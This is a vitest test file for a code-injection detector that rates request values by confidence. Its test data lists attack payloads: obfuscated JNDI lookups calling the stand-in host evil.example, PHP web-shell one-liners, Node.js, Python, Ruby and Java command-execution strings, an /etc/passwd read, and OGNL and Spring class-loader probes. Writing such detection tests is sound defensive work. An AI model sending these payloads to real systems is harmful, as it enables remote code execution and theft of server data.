// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks on log libraries look like this.

import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Field } from "../../../model/field.ts";
import type { Match } from "../../detector.ts";
import { codeInjection } from "./code-injection.ts";

function detect(value: string, field: Partial<Field> = {}): Match | undefined {
  return codeInjection.detect({
    location: "query",
    name: "q",
    part: "value",
    type: "string",
    value,
    ...field,
  });
}

describe("a lookup of a log library", () => {
  test.each([
    ["as it is", "${jndi:ldap://evil.example/a}"],
    ["in mixed case", "${JnDi:rmi://evil.example/a}"],
    ["with letters in lower case", "${${lower:j}ndi:ldap://evil.example/a}"],
    ["out of default values", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}ap://evil.example/a}"],
    ["out of missing variables", "${${env:X:-j}ndi${env:X:-:}${env:X:-l}dap://evil.example/a}"],
    ["out of a date", "${${date:'j'}ndi:rmi://evil.example/x}"],
    ["with a name in it", "${jndi:dns://${hostName}.evil.example}"],
    ["with the dollar as default value", "${env:X:-${env:X:-$}{jndi:ldap://evil.example/a}}"],
    ["without its end", "${jndi:ldap://evil.example/a"],
    ["with a brace only the target knows", "$&LBRACE;jndi:ldap://evil.example/a}"],
    ["as a script", "${script:javascript:java.lang.Runtime}"],
  ])("is resolved and flagged %s", (_why, value) => {
    expect(detect(value)).toMatchObject({ confidence: "high" });
  });

  test("is medium when it only hides letters", () => {
    expect(detect("a${::-b}c")?.confidence).toBe("medium");
  });
});

describe("code of a server", () => {
  test.each([
    ["PHP page", "<?php system($_GET['c']); ?>"],
    ["PHP short tag", "<?=`$_GET[0]`?>"],
    ["PHP information", ";phpinfo();"],
    ["PHP within a string", "\".system('id').\""],
    ["PHP superglobal", "eval($_POST['x'])"],
    ["PHP string called", '("system")("id")'],
    ["PHP pieces called", "('sys'.'tem')('id')"],
    ["PHP word called", "(system)(ls);"],
    ["PHP list called", '["system"][0]("id")'],
    ["PHP comment before the arguments", "exec/*x*/('id')"],
    ["PHP decoding", "base64_decode('aWQ=')"],
    ["scanner's probe", "${@print(md5(acunetix_wvs_security_test))}"],
    ["Node.js module", "require('child_process').exec('id')"],
    ["Node.js main module", "global.process.mainModule.require('fs')"],
    ["JavaScript function of text", "new Function('return process')()"],
    ["JavaScript constructors", "this.constructor.constructor('return process')()"],
    ["JavaScript of numbers", "eval(String.fromCharCode(114,101))"],
    ["Node.js process hidden", 'process["env"]'],
    ["Python import", "__import__('os').system('id')"],
    ["Python statement", "import os;os.system('id')"],
    ["Python file", "open('/etc/passwd').read()"],
    ["Python classes", "().__class__.__bases__[0].__subclasses__()"],
    ["Ruby kernel", 'Kernel.exec("ls -al /")'],
    ["Ruby pipe", "IO.popen('id').read"],
    ["Perl list", '@{[system "touch /tmp/x"]}'],
    ["Java runtime", 'java.lang.Runtime.getRuntime().exec("id")'],
    ["OGNL", "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"],
    ["Spring's class loader", "class.module.classLoader.resources.context.parent"],
  ])("is flagged with high confidence: %s", (_why, value) => {
    expect(detect(value)).toMatchObject({ confidence: "high" });
  });

  test.each([
    ["a PHP variable called", "$f(2)"],
    ["an indexed PHP variable called", "$__[@o](6)"],
    ["a class of Java as the value", "java.lang.ProcessImpl"],
    ["a common name of PHP with a string", "mail('a@b.example')"],
    ["a call without arguments", "exec()"],
    ["a probe by computing", "response.write(9437184*9143)"],
  ])("is flagged with medium confidence: %s", (_why, value) => {
    expect(detect(value)).toMatchObject({ confidence: "medium" });
  });
});

describe("an honest value", () => {
  test.each([
    ["file name", "report_file(2).xlsx"],
    ["word with a plural", "link(s)"],
    ["price", "US$5 (plus tax)"],
    ["jQuery", "$('.class').click(function(){})"],
    ["jQuery start", "$(document).ready()"],
    ["import of a library", "import React from 'react'"],
    ["module of a library", "require('express')"],
    ["console", "console.log('hello')"],
    ["path function in a sentence", "You should use os.path.join for that"],
    ["XML declaration", '<?xml version="1.0" encoding="UTF-8"?><a/>'],
    ["style sheet of XML", '<?xml-stylesheet type="text/xsl" href="a.xsl"?>'],
    ["placeholder", "${user.name} at ${env:HOME} and ${lower:name}"],
    ["SQL function", "SELECT count(*) FROM x"],
    ["stack trace", 'java.lang.NullPointerException: Cannot invoke "String.length()"'],
    ["collection of Java", "java.util.List"],
    ["address", "https://example.com/eval?x=1(2)"],
  ])("passes: %s", (_why, value) => {
    expect(detect(value)).toBeUndefined();
  });

  test.each([
    ["question about code", "What does the eval() function do in JavaScript?"],
    ["word with a note", "exec (John Smith)"],
    ["word with an ending", "system(s)"],
    ["first line of a script", "const fs = require('fs')"],
    ["variable of the environment", "process.env.NODE_ENV"],
    ["text about the attack", "How do I see whether jndi:ldap://x.example/a was ever in our logs"],
  ])("stays at low confidence: %s", (_why, value) => {
    expect(detect(value)?.confidence ?? "low").toBe("low");
  });

  test("stays at low confidence in a field that is made for code", () => {
    const field = { location: "body", name: "$.steps[0].script" } as const;

    expect(detect("os.system('make')", field)?.confidence).toBe("low");
  });

  test("stays at low confidence as a program of several lines in a body", () => {
    const program = "import os\n\nprint(1)\nos.system('make')\n";

    expect(detect(program, { location: "body", name: "$.text" })?.confidence).toBe("low");
  });
});

describe("reading", () => {
  test("takes any text without failing, and keeps its offsets inside", () => {
    const unit = fc.constantFrom(
      ..."${}()[]<?'\"\\.:-;= \nax0_",
      "eval",
      "jndi:",
      "system",
      "process",
      "constructor",
    );
    fc.assert(
      fc.property(fc.string({ unit }), (value) => {
        const match = detect(value);
        if (match === undefined) return;
        expect(match.start).toBeLessThanOrEqual(match.end);
        expect(match.end).toBeLessThanOrEqual(value.length);
      }),
    );
  });

  test.each([
    "${",
    "${a:-",
    "${lower:j}",
    "<?",
    "$a",
    "$a(",
    "eval ",
    "eval(",
    "constructor ",
    "process.",
    "a.b(",
    "\\u",
    "'",
    ")(",
    "jndi:",
  ])("stays linear on a megabyte of %j", (pump) => {
    const value = pump.repeat(1_048_576 / pump.length);
    const started = performance.now();
    detect(value);
    expect(performance.now() - started).toBeLessThan(3_000);
  });
});

test("a route into a framework's own classes is flagged, a path of Windows is not", () => {
  expect(detect("/Index/\\think\\app/invokefunction")?.confidence).toBe("high");
  expect(detect("C:\\think\\app.txt")).toBeUndefined();
});
